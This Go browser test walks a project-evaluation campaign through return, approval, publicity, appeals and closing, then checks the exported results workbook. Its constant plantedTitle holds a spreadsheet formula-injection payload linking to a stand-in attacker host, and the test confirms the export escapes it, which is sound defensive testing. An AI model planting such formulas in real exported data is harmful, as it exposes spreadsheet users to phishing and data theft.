package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/xuri/excelize/v2"

	"github.com/evalpanel/evalpanel/evaluation"
)

// plantedTitle is a project title that a spreadsheet would run as a
// formula, were the download to write it as it is.
const plantedTitle = `=HYPERLINK("http://evil.example/steal","点击查看详情")`

// TestBrowserReviewJourney is issue 10's journey, from the campaign
// submitted to the commission to the campaign closed. The commission
// filters the results to the divergent project, opens it and returns it
// to the agency with a comment; the agency reads the comment on the
// project, answers it and submits the campaign again; the commission
// approves it, which starts the publicity; the public notice shows each
// project's conclusion and no score or expert's name. The agency records
// an appeal that disputes only the experts' academic judgement (recorded
// as not admissible, by the rule) and an admissible one on the other
// project; the commission has the panel re-evaluate that project, the
// members submit their sheets again from their home pages, and the
// commission resolves the appeal. After the publicity the commission
// closes the campaign and downloads the results: the workbook, opened
// with excelize, holds each project's score, and the title planted with a
// formula comes out escaped.
func TestBrowserReviewJourney(t *testing.T) {
	chromium := chromiumPath(t)
	var offset atomic.Int64 // how far the server's clock runs ahead
	fx := startFixtureServer(t, func() time.Time { return time.Now().Add(time.Duration(offset.Load())) },
		func(b *fixtureBuilder) *resultsFixture {
			fx := b.resultsCampaign(plantedTitle)
			b.submitToCommission(fx)
			return fx
		})
	chrome := startBrowser(t, chromium)
	a, b := fx.divergent, fx.agreed
	results := fmt.Sprintf("/campaigns/%d/results", fx.campaignID)
	campaign := fmt.Sprintf("/campaigns/%d", fx.campaignID)
	const comment = "该项目专家评分极差达 30 分，请说明未组织专家组复议即形成结论的理由，并补充佐证材料。"
	keep := func(p *tab, name string) { t.Helper(); p.keep("review-" + name + ".png") }

	// 1. The commission filters the results to the divergent project and
	// returns it with a comment.
	com := openTab(t, chrome, fx.srv)
	com.signIn("commission")
	com.visit(results)
	// Choosing a filter submits its form (app.js).
	ctx, cancel := context.WithTimeout(com.ctx, stepTimeout)
	resp, err := chromedp.RunResponse(ctx, chromedp.SetValue(byID("flag"), "divergent"))
	cancel()
	if err != nil || resp == nil || resp.Status != 200 || com.path() != results {
		com.fatalf("filter the divergent projects: %v, %+v", err, resp)
	}
	if !com.exists(fmt.Sprintf("divergent-%d", a.id)) || com.exists(fmt.Sprintf("result-%d", b.id)) {
		com.fatalf("the filtered results: %q, want %s alone", com.normalText("results"), a.code)
	}
	keep(com, "filtered")
	clickTo(com, "open the divergent project", chromedp.CSS(fmt.Sprintf("#result-%d a", a.id)), 200, a.result())
	if got := com.normalText("divergence"); !strings.Contains(got, "极差 30，") {
		com.fatalf("#divergence = %q, want the range of 30", got)
	}
	com.fill("comment", comment)
	com.submit("mark the project to return", "do-mark", 200, a.result())
	com.wantText("flash", "已标记退回 "+a.code+"。")
	com.visit(results)
	com.fill("return-reason", "请逐项处理退回意见后重新报送。")
	answered := com.answerDialog(true)
	com.submit("return the campaign", "do-return", 200, results)
	com.dialog(answered)
	com.wantText("flash", "已将标记的项目连同批次退回管理机构。")
	keep(com, "returned")

	// 2. The agency reads the comment, answers it, and submits again.
	staff := openTab(t, chrome, fx.srv)
	staff.signIn("sstpc-li")
	staff.visit(campaign)
	staff.wantText("campaign-state", "已退回")
	staff.visit(a.result())
	if got := staff.normalText("review"); !strings.Contains(got, comment) {
		staff.fatalf("#review = %q, want the commission's comment", got)
	}
	const answer = "经复核，低分专家的意见主要针对第三方检测报告缺项；项目组已补充完整检测报告，专家组成员一致认可，维持通过结论。"
	staff.fill("answer", answer)
	staff.submit("answer the return", "do-answer", 200, a.result())
	staff.wantText("flash", "已保存对 "+a.code+" 退回意见的答复。")
	keep(staff, "answered")
	staff.visit(campaign)
	for _, to := range []string{"concluding", "submitted"} {
		answered := staff.answerDialog(true)
		staff.submit("move the campaign to "+to, "move-"+to, 200, campaign)
		staff.dialog(answered)
	}
	staff.wantText("campaign-state", "已报送市科委")

	// 3. The commission reads the answer and approves: the publicity
	// starts.
	com.visit(a.result())
	if got := com.normalText("review"); !strings.Contains(got, answer) {
		com.fatalf("#review = %q, want the agency's answer", got)
	}
	com.visit(campaign)
	com.clear("days")
	com.fill("days", "5")
	answered = com.answerDialog(true)
	com.submit("approve", "do-approve", 200, campaign)
	com.dialog(answered)
	com.wantText("flash", "已审核通过，公示期开始。")
	com.wantText("campaign-state", "公示中")
	keep(com, "approved")

	// 4. The public notice: conclusions, no scores, no names.
	anon := openTab(t, chrome, fx.srv)
	anon.visit(fmt.Sprintf("/public/campaigns/%d", fx.campaignID))
	notice := anon.normalText("main")
	if !strings.Contains(notice, a.code) || !strings.Contains(notice, b.code) || !strings.Contains(notice, "通过") {
		anon.fatalf("the public notice = %q, want both projects and their conclusions", notice)
	}
	for _, secret := range []string{"81.67", a.score, b.score, fx.chair.name, fx.low.name, fx.finance.name} {
		if strings.Contains(notice, secret) {
			anon.fatalf("the public notice shows %q", secret)
		}
	}
	keep(anon, "public-notice")

	// 5. Appeals: academic judgement only, not admissible; a
	// miscalculation, admissible.
	fileAppeal := func(pr *resultsProject, ground, text string) {
		t.Helper()
		staff.visit(pr.result())
		step(staff, "choose the ground", chromedp.Click(byID("g-"+ground)))
		staff.fill("appellant", "上海智联汽车技术研究院")
		staff.fill("appeal-text", text)
		answered := staff.answerDialog(true)
		staff.submit("record the appeal", "do-appeal", 200, pr.result())
		staff.dialog(answered)
	}
	fileAppeal(a, "academic", "我单位认为低分专家对项目技术突破的评价有失公允，项目成果达到国际先进水平。")
	staff.wantText("flash", "已登记 "+a.code+" 的申诉，不予受理：仅对专家学术判断有异议。")
	if got := staff.normalText("appeals"); !strings.Contains(got, "不予受理") {
		staff.fatalf("#appeals = %q, want the appeal recorded as not admissible", got)
	}
	keep(staff, "appeal-inadmissible")
	fileAppeal(b, "calculation", "评价结果汇总时，一位专家的“技术突破”得分与其评分表不一致，请予核查。")
	staff.wantText("flash", "已登记 "+b.code+" 的申诉，等待市科委处理。")

	// The commission has the panel re-evaluate.
	com.visit(b.result())
	form := evalJSON[string](com, "find the appeal's form", `document.querySelector('form[id^="reevaluate-form-"]').id`)
	id := strings.TrimPrefix(form, "reevaluate-form-")
	com.fill("a-note-"+id, "经核查，申诉反映的情况需专家组确认，请各位专家复核“技术突破”一项后重新提交评分表。")
	answered = com.answerDialog(true)
	com.submit("send the project to its panel", "do-reevaluate-"+id, 200, b.result())
	com.dialog(answered)
	com.wantText("flash", "已请 "+b.code+" 的专家组复评。")
	if !com.exists("appeal-pending-" + id) {
		com.fatalf("the appeal does not wait for the revised sheets: %q", com.normalText("appeals"))
	}

	// Each technical member finds the project on their home page again
	// and submits the sheet; it then leaves the workspace.
	for _, m := range fx.technical() {
		p := openTab(t, chrome, fx.srv)
		p.signIn(m.username)
		sheet := fmt.Sprintf("/workspace/projects/%d/sheet", b.id)
		clickTo(p, "open the reopened sheet", chromedp.CSS(fmt.Sprintf("#work-%d .work-action a", b.id)), 200, sheet)
		if got := p.normalText("reopened"); !strings.Contains(got, "请各位专家复核") {
			p.fatalf("#reopened = %q, want the commission's note", got)
		}
		clickTo(p, "check the sheet", byID("review-sheet"), 200, sheet+"/review")
		p.submit("submit the sheet again", "submit-sheet", 200, "/")
		if p.exists(fmt.Sprintf("work-%d", b.id)) {
			p.fatalf("the project stays on %s's home page after the re-evaluation", m.name)
		}
	}

	// The commission resolves the appeal with the re-evaluation's result.
	com.visit(b.result())
	if got := com.normalText("score"); !strings.HasPrefix(got, b.score) {
		com.fatalf("#score after the re-evaluation = %q, want %s", got, b.score)
	}
	step(com, "keep the pass", chromedp.Click(byID("a-c-"+id+"-pass")))
	com.fill("a-resolution-"+id, "经专家组复评，评分表与汇总结果一致，申诉反映的情况不成立，维持通过结论。")
	answered = com.answerDialog(true)
	com.submit("resolve the appeal", "do-resolve-"+id, 200, b.result())
	com.dialog(answered)
	com.wantText("flash", b.code+" 的申诉已办结。")
	com.wantText("appeal-outcome-"+id, "通过")
	keep(com, "appeal-resolved")

	// 6. After the publicity the campaign closes.
	offset.Store(int64(6 * 24 * time.Hour))
	com.visit(campaign)
	if got := com.normalText("appeal-table"); !strings.Contains(got, "不予受理") || !strings.Contains(got, "复评后已办结") {
		com.fatalf("#appeal-table = %q, want both appeals settled", got)
	}
	answered = com.answerDialog(true)
	com.submit("close the campaign", "move-closed", 200, campaign)
	com.dialog(answered)
	com.wantText("campaign-state", "已结束")
	keep(com, "closed")
	// The close wrote the experts' records.
	com.visit("/experts/records?q=" + fx.chair.name)
	if got := com.normalText("records-list"); !strings.Contains(got, fx.chair.name) {
		com.fatalf("#records-list = %q, want the chair's record", got)
	}
	keep(com, "expert-records")

	// 7. The results workbook: the scores, and the planted formula as
	// text.
	com.visit(results)
	href := evalJSON[string](com, "read the download's address", `document.getElementById('export-zh').getAttribute('href')`)
	encoded := step(com, "download the results", chromedp.Evaluate[string](fmt.Sprintf(`fetch(%q).then(r => r.arrayBuffer()).then(b => {
		let s = ''; for (const x of new Uint8Array(b)) s += String.fromCharCode(x); return btoa(s); })`, href), chromedp.EvalAwaitPromise))
	raw, err := base64.StdEncoding.DecodeString(encoded)
	if err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatalf("open the workbook: %v", err)
	}
	defer book.Close()
	rows, err := book.GetRows(book.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, row := range rows {
		line := strings.Join(row, "|")
		switch {
		case strings.Contains(line, a.code):
			found[a.code] = strings.Contains(line, "|81.67|")
		case strings.Contains(line, b.code):
			found[b.code] = strings.Contains(line, "|"+b.score+"|") && strings.Contains(line, "|'"+plantedTitle+"|")
		}
	}
	if !found[a.code] || !found[b.code] {
		t.Errorf("the workbook's rows lack the scores or the escaped title: %q", rows)
	}
}

// submitToCommission takes the results fixture's campaign to the
// commission without a discussion: the chair drafts each project's
// opinion proposing a pass, every member confirms it, the agency moves
// the campaign to concluding, records both passes and submits it. The
// divergent project keeps its flag for the commission to find.
func (b *fixtureBuilder) submitToCommission(fx *resultsFixture) {
	t, ctx := b.t, b.t.Context()
	actorOf := func(m resultsMember) evaluation.Actor {
		for _, u := range b.users {
			if u.Username == m.username {
				return u.Actor()
			}
		}
		t.Fatalf("no account %s", m.username)
		return evaluation.Actor{}
	}
	chair := actorOf(fx.chair)
	for _, pr := range []*resultsProject{fx.divergent, fx.agreed} {
		if _, err := b.svc.Results.SaveOpinion(ctx, chair, pr.id, 0, evaluation.OpinionInput{Text: pr.opinion,
			Proposed: evaluation.ConclusionPass}); err != nil {
			t.Fatal(err)
		}
		if _, err := b.svc.Results.CirculateOpinion(ctx, chair, pr.id, 1); err != nil {
			t.Fatal(err)
		}
		for _, m := range fx.responders() {
			if _, err := b.svc.Results.RespondOpinion(ctx, actorOf(m), pr.id, true, ""); err != nil {
				t.Fatal(err)
			}
		}
	}
	if _, err := b.svc.Campaigns.TransitionCampaign(ctx, b.staff, fx.campaignID, evaluation.CampaignConcluding, ""); err != nil {
		t.Fatal(err)
	}
	for _, pr := range []*resultsProject{fx.divergent, fx.agreed} {
		if _, err := b.svc.Results.RecordConclusion(ctx, b.staff, pr.id, evaluation.ConclusionPass,
			"专家组意见建议通过，予以通过。"); err != nil {
			t.Fatalf("conclude %s: %v", pr.code, err)
		}
	}
	if _, err := b.svc.Campaigns.TransitionCampaign(ctx, b.staff, fx.campaignID, evaluation.CampaignSubmitted, ""); err != nil {
		t.Fatal(err)
	}
}
